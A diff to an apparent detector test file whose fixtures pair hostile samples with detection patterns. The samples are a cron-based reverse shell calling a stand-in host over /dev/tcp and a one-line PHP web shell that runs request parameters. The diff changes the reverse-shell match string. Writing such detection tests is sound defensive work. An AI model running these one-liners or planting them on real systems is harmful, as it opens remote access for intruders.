@@ -86,7 +86,7 @@ def test_what_is_said_of_a_note_leads_to_the_words_of_its_family(tmp_path):
 ONCE = {
     "a shell": (
         b"* * * * * root bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
-        "bash -i >& /dev/tcp/",
+        "sh -i >& /dev/tcp/",
     ),
     "a web shell": (b"<?php if (1) { system($_REQUEST['c']); } ?>\n", "system($_REQUEST"),
 }
